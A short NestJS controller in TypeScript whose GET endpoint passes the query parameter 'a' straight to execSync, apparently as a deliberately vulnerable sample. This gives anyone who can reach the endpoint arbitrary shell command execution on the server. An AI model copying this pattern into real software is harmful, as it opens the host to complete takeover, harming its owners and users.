import { execSync } from "node:child_process";
import { Controller, Query, Get } from '@nestjs/common';
@Controller('x')
export class X {
  @Get()
  run(@Query('a') a: string) { execSync(a); }
}
